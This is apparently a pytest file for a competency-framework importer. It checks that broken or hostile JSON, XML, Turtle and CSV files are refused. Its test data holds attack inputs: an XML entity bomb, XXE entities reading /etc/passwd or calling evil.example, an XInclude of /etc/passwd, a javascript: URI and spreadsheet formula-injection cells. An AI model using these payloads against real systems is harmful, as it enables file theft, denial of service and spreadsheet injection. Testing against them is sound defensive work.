"""Files that are broken, hostile, too large or contradictory are refused, with the line where there is one."""

import codecs
import json
import time
from itertools import pairwise

import pytest

from catalogue.frameworks.formats import json_text, spreadsheet_text
from catalogue.frameworks.formats.csv_table import read_csv_table, write_csv_table
from catalogue.frameworks.formats.framework import Framework, Item, Text
from catalogue.frameworks.formats.reading import read_framework
from catalogue.frameworks.formats.refusals import FrameworkRefused
from catalogue.frameworks.formats.soundness import framework_identifier
from catalogue.frameworks.formats.spreadsheet_text import guarded, unguarded

SKOS = (
    b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
    b'xmlns:skos="http://www.w3.org/2004/02/skos/core#">%s</rdf:RDF>'
)
A, B, C = (letter * 8 + "-0000-4000-8000-" + letter * 12 for letter in "abc")


def refusal(data, name=""):
    """Return the sentence of a refusal, which costs little: what a pause of the machine takes does not count."""
    started = time.process_time()
    with pytest.raises(FrameworkRefused) as caught:
        read_framework(data, name)
    assert time.process_time() - started < 10
    return str(caught.value)


def package(items=(), associations=(), **document):
    document = {"identifier": C, "title": "Essai", "language": "fr", "version": "1"} | document
    return json.dumps({"CFDocument": document, "CFItems": items, "CFAssociations": associations}).encode()


def item(identifier, **facts):
    return {"identifier": identifier, "fullStatement": "Faire", **facts}


def below(origin, destination):
    return {
        "associationType": "isChildOf",
        "originNodeURI": {"identifier": origin},
        "destinationNodeURI": {"identifier": destination},
    }


# --- JSON


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (b"", "This file is empty."),
        (b"\xef\xbb\xbf \n", "This file is empty."),
        (b'{"a": ' * 10_000, "This file nests values more than 60 deep."),
        (b"[[" * 30 + b"[", "This file nests values more than 60 deep."),
        (b'{"a": 1e400}', "This file holds something that is not a finite number."),
        (b'{"a": NaN}', "This file holds something that is not a finite number."),
        (b'{"a": 18446744073709551616}', "This file holds a number too large to be read exactly."),
        (b'{"a": "\\ud800"}', "This file holds a character that no text may hold."),
        (b'{"a": "\\u0000"}', "This file holds a character that no text may hold."),
        (b'{"\\u0000": 1}', "This file holds a character that no text may hold."),
        (b'{"a": 1,\n "a": 2}', "This file says the same thing twice: the key “a” is repeated in an object."),
        (b'{"a": "\xff"}', "This JSON file is not written in UTF-8."),
        (b'{"a": 1,\n oops}', "Line 2: This file is not JSON: look at column 2."),
        (
            b'{"a": 1}',
            "This JSON file is not a framework that is known: neither CASE, nor DigComp, nor SKOS, nor the short form.",
        ),
    ],
)
def test_ATK_JSON_01_json_that_two_readers_could_understand_differently_is_refused(data, sentence):
    assert refusal(data, "a.json") == sentence


def test_ATK_JSON_01_a_file_that_is_too_large_is_not_even_parsed(monkeypatch):
    monkeypatch.setattr(json_text, "MOST_BYTES", 1_000_000)
    data = b"[" * 1_000_001
    assert refusal(data) == "This file is larger than 1 MB. Split the framework, then import its parts."


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (b'{"CFDocument": []}', "The field “CFDocument” of this file does not hold what it should."),
        (b'{"CFPackage": {"CFItems": []}}', "The field “CFDocument” of this file does not hold what it should."),
        (package(items=[[]]), "The field “CFItems” of this file does not hold what it should."),
        (package(identifier="x"), "“CFDocument” has “x” for identifier, which is not a UUID."),
        (package(items=[item("x")]), "“Faire” has “x” for identifier, which is not a UUID."),
        (package(items=[item(A, fullStatement="")]), f"“{A}” says nothing: it has no statement."),
        (
            package(items=[item(A, fullStatement={})]),
            "The field “fullStatement” of this file does not hold what it should.",
        ),
        (package(items=[item(A), item(A)]), "Two items have the same identifier or the same URI: “Faire”."),
        (package(items=[item(C)]), "Two items have the same identifier or the same URI: “Faire”."),
        (
            package(items=[item(A, uri="urn:x:1"), item(B, uri="urn:x:1")]),
            "Two items have the same identifier or the same URI: “Faire”.",
        ),
        (
            package(items=[item(A, humanCodingScheme="1"), item(B, humanCodingScheme="1")]),
            "Two items at the same place have the same code: “1”.",
        ),
        (
            package(items=[item(A), item(B)], associations=[below(A, B), below(B, A)]),
            "“Faire” is above itself: the items that hold one another make a circle.",
        ),
        (
            package(items=[item(A)], associations=[below(A, A)]),
            "“Faire” is above itself: the items that hold one another make a circle.",
        ),
        (
            package(items=[item(A, humanCodingScheme="1")], associations=[below(A, B)]),
            "“1” stands below an item that is not in the file.",
        ),
        (
            package(items=[item(A, fullStatement="x" * 2001)]),
            f"“{'x' * 60}”: the field “statement” is longer than 2000 characters.",
        ),
        (package(items=[item(A, uri="javascript:alert(1)")]), "“Faire”: “javascript:alert(1)” is not a URI."),
        (
            package(items=[item(A, language="français")]),
            "“Faire”: “français” is not the code of a language, such as fr.",
        ),
        (package(title=""), "This framework has no title."),
        (package(version="../1"), "“../1” cannot be a version: use letters, digits, dots and hyphens."),
        (package(statusStartDate="hier"), "“hier” is not a date. Write it as 2026-01-31."),
        (
            package(lastChangeDateTime="hier"),
            "“hier” is not a moment. Write it as 2026-01-31T12:00:00Z.",
        ),
        (
            package(extensions={"urn:outillerie-framework:1": {"levels": [{"code": "a", "rank": "1"}]}}),
            "The field “rank” of this file does not hold what it should.",
        ),
        (
            package(extensions={"urn:outillerie-framework:1": {"status": "secret"}}),
            "“secret” is not a status that is known.",
        ),
    ],
)
def test_a_package_that_contradicts_itself_is_refused_with_its_place(data, sentence):
    assert refusal(data, "a.json") == sentence


def test_a_tree_that_is_too_deep_is_refused():
    chain = [f"{number:08x}-0000-4000-8000-000000000000" for number in range(1, 5_000)]
    data = package([item(one) for one in chain], [below(two, one) for one, two in pairwise(chain)])
    assert refusal(data, "a.json") == "“Faire” is more than 12 levels below the top."


def test_too_many_items_are_refused():
    items = [item(f"{number:08x}-0000-4000-8000-000000000000") for number in range(20_001)]
    assert refusal(package(items), "a.json") == "This framework has 20001 rows of one kind; at most 20000 are read."


# --- XML


LAUGHS = b"<!DOCTYPE a [<!ENTITY b 'ha'>" + b"".join(
    b"<!ENTITY c%d '%s'>" % (number, (b"&c%d;" % (number - 1) if number else b"&b;") * 10) for number in range(9)
)
DTD = "This XML file declares a document type or entities, which are never read. Remove them."


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (LAUGHS + b"]><a>&c8;</a>", DTD),
        (b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', DTD),
        (b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>', DTD),
        (b'<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/"> %b;]><a/>', DTD),
        ('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "x">]><a>&b;</a>'.encode("utf-16"), DTD),
        (b"<a>" * 100_000, "This file nests values more than 60 deep."),
        (b"<a><b></a>", "Line 1: This file is not XML: look at column 8."),
        (b"<a>&b;</a>", "Line 1: This file is not XML: look at column 3."),
        (b"<a>\xff</a>", "This XML file is written neither in UTF-8 nor in UTF-16."),
        (SKOS % b"", "This file describes no concept scheme: there is no framework to read in it."),
        (
            SKOS % b'<skos:ConceptScheme rdf:about="urn:x:a"/>',
            "This file describes no concept: there is no framework to read in it.",
        ),
        (
            SKOS % b'<skos:ConceptScheme rdf:about="urn:x:a"/><skos:Concept rdf:about="urn:x:b">'
            b'<skos:prefLabel>B</skos:prefLabel><skos:broader rdf:resource="urn:x:c"/></skos:Concept>',
            "“urn:x:b” stands below an item that is not in the file.",
        ),
        (
            SKOS % b'<skos:ConceptScheme rdf:about="urn:x:a"/><skos:Concept rdf:about="urn:x:b">'
            b'<skos:prefLabel>B</skos:prefLabel><skos:broader rdf:resource="urn:x:b"/></skos:Concept>',
            "“B” is above itself: the items that hold one another make a circle.",
        ),
    ],
)
def test_ATK_XML_01_xml_with_entities_or_without_bounds_is_refused(data, sentence):
    assert refusal(data, "a.rdf") == sentence


def test_ATK_XML_01_an_inclusion_is_a_text_like_any_other():
    data = SKOS % (
        b'<skos:ConceptScheme rdf:about="urn:x:a"/><skos:Concept rdf:about="urn:x:b"><skos:prefLabel>B</skos:prefLabel>'
        b'<skos:note><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></skos:note>'
        b"</skos:Concept>"
    )
    assert [item.texts[0].statement for item in read_framework(data, "a.rdf").items] == ["B"]


# --- Turtle


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (b"@prefix a: <http://a.example/> .\na:b a:c", "Line 2: This is not Turtle, near “”."),
        (b"@prefix a: <http://a.example/> .\na:b x:c 1 .", "Line 2: This is not Turtle, near “x:c 1 .”."),
        (b"@prefix a: <http://a.example/> .\n\na:b a:c 'd", "Line 3: This is not Turtle, near “'d”."),
        (
            b"@prefix a: <http://a.example/> .\na:b a:c " + b"[ a:d " * 100_000,
            "This file nests values more than 60 deep.",
        ),
        (
            b"@prefix a: <http://a.example/> .\na:b a:c '\\u0000' .",
            "This file holds a character that no text may hold.",
        ),
        (b"@base <http://a.example/> .\n<b> <c> '\xff' .", "This Turtle file is not written in UTF-8."),
    ],
)
def test_broken_turtle_is_refused_with_its_line(data, sentence):
    assert refusal(data, "a.ttl") == sentence


# --- CSV


HEADER = "code;parent;statement_fr\n"


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (
            "a;b\n1;2\n",
            "Line 1: The first line does not name the columns: at least “code” and “statement_fr” are needed.",
        ),
        ("code;statement_fr;Code\n", "Line 1: Two columns are called “code”."),
        (HEADER + "1;;Un\n1;;Deux\n", "Line 2: Two items have the same code: “1”."),
        (HEADER + "1;;Un\n\n2;9;Deux\n", "Line 4: “9” is not the code of an item of this table."),
        (HEADER + "1;2;Un\n2;1;Deux\n", "Line 2: “1” is above itself: the items that hold one another make a circle."),
        (HEADER + "1;;\n", "Line 2: “1” says nothing: it has no statement."),
        (HEADER + "1;;Un;Trop\n", "Line 2: This line has 4 cells and the first one 3."),
        (
            HEADER + '1;;"Un\n2;;Deux\n',
            "Line 3: A quotation mark is out of place, or opens a cell that is never closed.",
        ),
        (
            HEADER + "1;;" + "x" * 10_000_000,
            "Line 2: A cell is too long, or a quotation mark opens one that is never closed.",
        ),
        (
            HEADER + "01-janv;;Un\n",
            "Line 2: The code “01-janv” looks like a date that a spreadsheet made of a code such as 1.1. Give its column "
            "the format “Text”, write the codes again, then save.",
        ),
        (
            "code;level;statement_fr\n1;moyen;Un\n",
            "Line 2: “1” is at the level “moyen”, which the framework does not have.",
        ),
        ("code;domain;statement_fr\n1;9;Un\n", "Line 2: “1”: its domain is not a number from 1 to 5."),
        ("code;domain;statement_fr\n1;1,5;Un\n", "Line 2: “1,5” is not a whole number."),
        (
            "row;code;statement_fr\nautre;1;Un\n",
            "Line 2: “autre” is not a kind of row: use framework, level, item or link.",
        ),
        ("row;code;statement_fr\nframework;colour;\n", "Line 2: “colour” is not a fact of a framework that is known."),
        (
            "row;code;statement_fr;parent;strength;target\nitem;1;Un;;;\nlink;;;1;same;urn:x:1\n",
            "Line 3: “same” is not a strength: use exact, close, broader, narrower or related.",
        ),
        ("code;statement_fr\n1;a\x00b\n", "This file holds a character that no text may hold."),
    ],
)
def test_ATK_CSVI_01_a_broken_table_is_refused_with_its_line(data, sentence):
    assert refusal(data.encode(), "a.csv") == sentence


def test_ATK_CSVI_01_a_million_lines_are_refused():
    data = (HEADER + "".join(f"{number};;x\n" for number in range(spreadsheet_text.MOST_LINES))).encode()
    assert (
        refusal(data, "a.csv") == "Line 120001: This table has more than 120000 lines. Split it, then import its parts."
    )


def test_ATK_CSVI_01_a_workbook_is_not_csv():
    assert refusal(b"PK\x03\x04rest", "a.csv") == (
        "This file is not CSV. In your spreadsheet, save the sheet as CSV, then import it again."
    )


TABLE = "code;parent;statement_fr\n1;;Données œuvre\n1.1;1;Écrire\n"


@pytest.mark.parametrize(
    "data",
    [
        TABLE.encode(),
        codecs.BOM_UTF8 + TABLE.encode(),
        TABLE.encode("cp1252"),
        TABLE.encode("utf-16"),
        TABLE.encode("utf-16-le"),
        codecs.BOM_UTF16_BE + TABLE.encode("utf-16-be"),
        TABLE.encode("utf-32"),
        TABLE.replace("\n", "\r\n").encode(),
        TABLE.replace("\n", "\r").encode(),
        TABLE.replace(";", ",").encode(),
        TABLE.replace(";", "\t").encode("cp1252"),
        b"\n\n" + TABLE.encode(),
        TABLE.replace("code;parent;statement_fr", "Code ;Au-dessus;Énoncé_fr").encode(),
        TABLE.replace("statement_fr", '"statement_fr"').encode(),
    ],
)
def test_a_table_is_read_whatever_office_program_wrote_it(data):
    read = read_csv_table(data, code="essai")
    assert [(item.code, item.texts[0].statement) for item in read.items] == [("1", "Données œuvre"), ("1.1", "Écrire")]
    assert read.items[1].parent == read.items[0].identifier


FORMULAS = ["=1+1", "+33", "-2", "@SUM(A1)", "\tx", "\rx", "＝1", "＠x", "'=1", "''=1"]


@pytest.mark.parametrize("cell", [*FORMULAS, "'", "'x", "x=1", "", "1.1"])
def test_ATK_CSV_01_no_cell_is_a_formula_and_each_comes_back(cell):
    written = guarded(cell)
    assert written == (f"'{cell}" if cell in FORMULAS else cell)
    assert unguarded(written) == cell


def test_ATK_CSV_01_a_statement_that_is_a_formula_goes_out_as_a_text():
    texts = (Text(language="fr", statement='=HYPERLINK("http://evil.example";"x")', notes="@SUM(1)"),)
    framework = Framework(
        code="essai",
        version="1",
        title="-1",
        identifier=framework_identifier("essai", "1"),
        items=(Item(identifier=A, code="+1", texts=texts),),
    )
    written = write_csv_table(framework)
    cells = [cell for _line, row in spreadsheet_text.rows_of(written.decode("utf-8-sig")) for cell in row]
    assert {'=HYPERLINK("http://evil.example";"x")', "@SUM(1)", "+1", "-1"} <= set(cells)
    assert not [part for part in written.decode().replace('"', "").split(";") if part[:1] in {"=", "+", "-", "@"}]
    assert read_csv_table(written) == framework
